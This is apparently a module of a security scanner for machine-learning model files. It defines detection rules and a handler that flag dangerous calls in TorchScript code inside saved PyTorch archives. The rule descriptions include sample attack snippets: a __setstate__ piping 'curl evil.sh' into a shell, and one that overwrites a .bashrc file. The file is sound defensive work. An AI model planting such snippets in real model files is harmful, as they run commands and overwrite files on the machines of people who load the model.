"""TorchScript code members: parsed with `ast`, never run, and every call judged by what it does.

`torch.jit.save` writes a zip whose pickles (`data.pkl`, `constants.pkl`) the pickle analyser scans like
any other, and whose `code/__torch__/...py` members hold the model's compiled program as Python-like
source. `torch.jit.load` compiles that source; it runs when the model is called. The zip walker hands
each member to the engine, which identifies it by content: this handler claims the source that
TorchScript's printer writes, records it (TSC001) and reports, with `core/pysource.analyse_torchscript`,
the calls that run commands or dynamic code (TSC002), touch files or the network (TSC003) or need a
native library (TSC004). `__setstate__` runs while `torch.jit.load` rebuilds the module; the rest when called.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from modelshield.core import pysource
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.source import Source

TORCHSCRIPT_CODE = Rule(
    id="TSC001",
    title="TorchScript code present",
    severity=Severity.INFO,
    category=Category.INFERENCE_TIME_CODE,
    overview="The archive carries TorchScript source (`code/__torch__/...`): the program `torch.jit.load` "
    "compiles and runs whenever the model is called. Its pickles are scanned separately; the code itself "
    "is recorded here; its calls that do more than compute are reported by TSC002-TSC005.",
    attack="TorchScript cannot import Python modules, but it calls any operator registered in the process: "
    "`torch.ops.<namespace>.<op>` reaches native code that a library, or an earlier pickle, registered. An "
    "edited archive can also change what the model computes without touching its weights.",
    impact="Whatever the listed operators do runs at inference time; the model's behaviour is the code's.",
    remediation="Review the code members of models from untrusted sources, in particular calls to custom "
    "operators outside `aten` and `prim`; prefer weights-only formats where the architecture is your own code.",
)

_EXAMPLE_SETSTATE = (
    "```\ndef __setstate__(self: __torch__.Net, state: Tuple[Tensor, bool]) -> NoneType:\n"
    '  self.weight = (state)[0]\n  torch.save(self.weight, "/home/user/.bashrc")\n```'
)
TORCHSCRIPT_RUNS = Rule(
    id="TSC002",
    title="TorchScript code runs a command or dynamic code",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A TorchScript code member calls something that runs a process or dynamic code (`os.system`, "
    "`eval`, a computed `getattr`, an import of a Python module). `torch.jit.save` never prints such code: "
    "the archive was edited by hand.",
    attack="The attacker edits `code/__torch__/*.py` in the zip. `torch.jit.load` compiles it and runs "
    "`__setstate__` while rebuilding the module, before the user calls anything; other methods run at call.",
    impact="Arbitrary commands with the rights of the process that loads or runs the model.",
    remediation="Do not load the archive. Re-export the model from its source code with `torch.jit.script` "
    "or `torch.jit.trace`, or use a weights-only format.",
    example="```\ndef __setstate__(self: __torch__.Net, state: Tuple[Tensor, bool]) -> NoneType:\n"
    '  getattr(torch.ops, "os").system("curl evil.sh | sh")\n```',
)
TORCHSCRIPT_ACCESS = Rule(
    id="TSC003",
    title="TorchScript code reads or writes files or the network",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A TorchScript code member calls an operator that touches the file system: `torch.save` "
    "(`aten::save`) writes a file, `torch.from_file` (`aten::from_file`) reads or maps any path, "
    "`torch.load` / `torch.jit.load` / `torch.hub` load other models or download them, `open` reads files.",
    attack="The call sits in `__setstate__`, which `torch.jit.load` runs while rebuilding the module, or in "
    "`forward`: the model overwrites a shell start-up file, leaks a secret file into a tensor the model "
    "returns, or loads a second, unscanned model.",
    impact="Files outside the archive are read or written with the rights of the loading process.",
    remediation="Do not load the archive; an exported model never reads or writes files. Re-export it from "
    "source, or use a weights-only format.",
    example=_EXAMPLE_SETSTATE,
)
TORCHSCRIPT_NATIVE = Rule(
    id="TSC004",
    title="TorchScript code calls a custom operator",
    severity=Severity.MEDIUM,
    category=Category.INFERENCE_TIME_CODE,
    overview="A TorchScript code member calls `torch.ops.<namespace>.<op>` outside torch's own namespaces "
    "(`aten`, `prim`, `quantized`), or builds a `torch.classes.<namespace>` custom class: native code that "
    "a library the user loads (`torch.ops.load_library`) registers.",
    attack="The model only works after the user loads a native library; an attacker ships that library "
    "beside the model, or names an operator that a library in the environment registers with side effects.",
    impact="Whatever the native operator does runs when the model (or its `__setstate__`) calls it.",
    remediation="Check that each custom operator comes from a library you trust and installed yourself; never "
    "load a native library shipped with a model.",
    example="```\ndef forward(self, x: Tensor) -> Tensor:\n  return ops.my_ops.warp_perspective(x, self.weight)\n```",
)
TORCHSCRIPT_UNPARSED = Rule(
    id="TSC005",
    title="TorchScript code could not be parsed",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="A member that starts like TorchScript's printed code is not valid Python syntax, so its calls "
    "could not be judged. TorchScript's own parser may still accept what Python's rejects.",
    attack="An attacker makes the code unparseable to the scanner (syntax only TorchScript accepts, huge "
    "nesting) so that a dangerous call is never seen.",
    impact="Unknown: the code was not analysed.",
    remediation="Review the member by hand, or re-export the model from its source code.",
)

MAX_CODE = 1 << 20
"""Bytes of a code member searched for operator calls."""

_PRINTED = re.compile(
    # the TorchScript importer compiles the file as source: blank lines and comments may come first
    r"(?:[ \t]*(?:#[^\n]*)?\r?\n)*(?:op_version_set = \d+\n)?(?:import __torch__[\w.]*\n)*"
    r"(?:class \w+\((?:Module|NamedTuple|Enum|Interface|ModuleInterface)\):\n  (?:__parameters__ = \[|\w+ : )"
    r"|def \w+\([^)]*\)(?: -> [^:\n]+)?:\n  \S)"
)
"""How TorchScript's printer starts a file: an nn.Module class with its parameter list, another
TorchScript class with `name : Type` fields, or a typed function with two-space indentation."""
_RULES = {
    pysource.TS_RUNS: TORCHSCRIPT_RUNS,
    pysource.TS_ACCESS: TORCHSCRIPT_ACCESS,
    pysource.TS_NATIVE: TORCHSCRIPT_NATIVE,
    pysource.TS_UNPARSED: TORCHSCRIPT_UNPARSED,
}
_MAX_PROBLEMS = 20


class TorchScriptCodeHandler(Handler):
    name = "torchscript-code"
    label = "TorchScript code"
    rules = (TORCHSCRIPT_CODE, TORCHSCRIPT_RUNS, TORCHSCRIPT_ACCESS, TORCHSCRIPT_NATIVE, TORCHSCRIPT_UNPARSED)

    def detect(self, source: Source) -> bool:
        try:
            text = source.head().decode("utf-8")
        except UnicodeDecodeError:
            return False
        return _PRINTED.match(text) is not None and ("Tensor" in text or "__torch__" in text)

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        if source.size > MAX_CODE:
            yield ctx.finding(TORCHSCRIPT_UNPARSED, f"TorchScript code of {source.size} bytes is over {MAX_CODE}")
            return
        text = source.read_at(0, MAX_CODE).decode("utf-8", "replace")
        found = pysource.analyse_torchscript(text, "<torchscript>")
        yield ctx.finding(TORCHSCRIPT_CODE, f"TorchScript code ({source.size} bytes)")
        for what, problem in found[:_MAX_PROBLEMS]:
            yield ctx.finding(_RULES[what], f"line {problem.line}: {problem.text}", line=problem.line)
